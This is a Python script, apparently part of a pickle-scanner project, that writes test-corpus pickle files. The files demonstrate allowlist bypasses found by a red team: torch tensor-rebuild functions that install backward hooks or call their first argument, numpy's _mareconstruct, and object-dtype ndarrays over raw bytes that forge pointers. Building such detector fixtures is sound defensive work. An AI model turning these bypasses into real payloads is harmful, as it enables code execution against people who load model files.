#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright (c) 2026 The mscan authors
"""Writes corpus/malicious/pkl_rt_A*.pkl: payloads reached only through allowlisted
functions (found by a red-team pass): backward hooks that _rebuild_tensor_v2 /
_rebuild_parameter install (builtins.print runs on the first backward()), a class numpy's
_mareconstruct instantiates, numpy.ndarray called over raw bytes with an object dtype
(forged pointers), and _rebuild_from_type_v2 calling its first argument. Byte-level,
standard library only, never unpickled. Run in corpus/malicious/."""
import struct
def G(m,n): return b'c'+m.encode()+b'\n'+n.encode()+b'\n'
def U(s): b=s.encode(); return b'X'+struct.pack('<I',len(b))+b
def B(b): return b'C'+bytes([len(b)])+b if len(b)<256 else b'B'+struct.pack('<I',len(b))+b
def I(n): return b'K'+bytes([n]) if 0<=n<256 else b'J'+struct.pack('<i',n)
def T(*xs): return b'('+b''.join(xs)+b't'
def R(f,*args): return f+T(*args)+b'R'
TRUE=b'\x88'; FALSE=b'\x89'; NONE=b'N'
def P(body): return b'\x80\x02'+body+b'.'
storage = R(G('torch','FloatStorage'), I(4))
od_hooks = R(G('collections','OrderedDict'), b']'+T(I(0), G('builtins','print'))+b'a')  # [ (0,print) ] list via EMPTY_LIST + APPEND
samples = {
 'A0_sanity_from_type_print.pkl': P(R(G('torch._tensor','_rebuild_from_type_v2'), G('builtins','print'), G('torch','Tensor'), T(U('hi')), b'}')),
 'A1_backward_hooks_print.pkl': P(R(G('torch._utils','_rebuild_tensor_v2'), storage, I(0), T(I(4)), T(I(1)), TRUE, od_hooks)),
 'A1b_param_hooks_print.pkl': P(R(G('torch._utils','_rebuild_parameter'), R(G('torch._utils','_rebuild_tensor_v2'), storage, I(0), T(I(4)), T(I(1)), FALSE, R(G('collections','OrderedDict'),)), TRUE, od_hooks)),
 'A2_mareconstruct_class.pkl': P(R(G('numpy.ma.core','_mareconstruct'), G('numpy.ma.mrecords','MaskedRecords'), G('numpy','ndarray'), T(I(0)), U('b'))+ b'}'+U('x')+I(1)+b's'+b'b'),
 'A3_ndarray_object_buffer.pkl': P(R(G('builtins','set'), R(G('numpy','ndarray'), T(I(1)), U('O'), B(b'A'*8)))),
 'A3b_ndarray_object_buffer_only.pkl': P(R(G('numpy','ndarray'), T(I(1)), U('O'), B(b'A'*8))),
}
for k, v in samples.items():
    open("pkl_rt_" + k, "wb").write(v)
